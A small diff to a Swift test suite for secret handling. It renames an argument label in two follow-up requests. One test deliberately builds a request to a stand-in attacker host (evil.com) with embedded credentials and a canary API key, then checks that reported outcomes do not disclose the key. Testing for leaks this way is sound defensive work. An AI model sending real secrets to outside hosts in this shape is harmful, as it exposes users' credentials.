@@ -61,7 +61,7 @@ struct SecretEchoTests {
             read: { first in
                 let seen = String(decoding: first.body, as: UTF8.self)
                 return .followUp(
-                    FollowUp(URL(string: "https://api.example.com/result")!) { second in
+                    FollowUp(url: URL(string: "https://api.example.com/result")!) { second in
                         .succeeded(["first": .string(seen), "second": try second.json()])
                     }
                 )
@@ -77,7 +77,7 @@ struct SecretEchoTests {
             of: .json("{}"),
             way: way,
             read: { _ in
-                .followUp(FollowUp(URL(string: "https://u:p@evil.com/?key=sk-canary-0123456789")!) { _ in .pending })
+                .followUp(FollowUp(url: URL(string: "https://u:p@evil.com/?key=sk-canary-0123456789")!) { _ in .pending })
             }
         )
         for outcome in outcomes { #expect(!Disclosure(of: outcome).shows(canary.key)) }
